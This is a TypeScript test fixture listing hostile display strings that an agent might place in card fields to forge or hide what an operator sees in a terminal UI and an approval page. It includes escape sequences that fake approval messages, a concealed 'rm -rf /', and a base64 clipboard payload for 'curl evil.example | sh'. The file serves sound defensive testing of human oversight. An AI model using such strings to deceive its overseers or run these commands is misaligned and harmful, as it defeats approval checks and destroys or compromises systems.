/**
 * The hostile display corpus (THREATS class 3): strings an agent may put in
 * any card field to hide or forge what the operator sees — erase-line,
 * carriage return, cursor moves, conceal (SGR 8), OSC 8 / OSC 52 / OSC 0,
 * DCS, C1 controls, bidi overrides, zero-width and default-ignorable
 * characters, variation selectors, tag characters, 10,000 spaces. The TUI's
 * terminal test (test/unit/tui/render-hostile.test.tsx) and the approval
 * page's browser test (test/e2e/approval-page.test.ts) both render it.
 */
export const HOSTILE = {
  erase: 'ok\x1b[2K\x1b[1Gtarget      GET https://safe.example/ok',
  cr: 'ok\rpostern: ok approved once',
  cursor: 'v1\x1b[5A\x1b[10D\x1b[Kpostern: ok approved once',
  conceal: '_now\x1b[8m; rm -rf /\x1b[28m',
  osc8: '\x1b]8;;https://evil.example\x07click me\x1b]8;;\x07',
  osc52: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  dcs: '\x1bP+q544e\x1b\\',
  c1: '\x9b2J\x9d0;pwned\x9c\x85',
  bidi: 'safe\u202etxt.exe\u202c\u2066x\u2069',
  zw: 'ma\u200bin\u200d\ufeff\u2060',
  vs: 'ma\u{E0100}\u{E0101}in',
  tag: 'x\u{E0041}\u{E0042}',
  title: '\x1b]0;postern: 0 pending\x07',
  spaces: ' '.repeat(10_000),
};
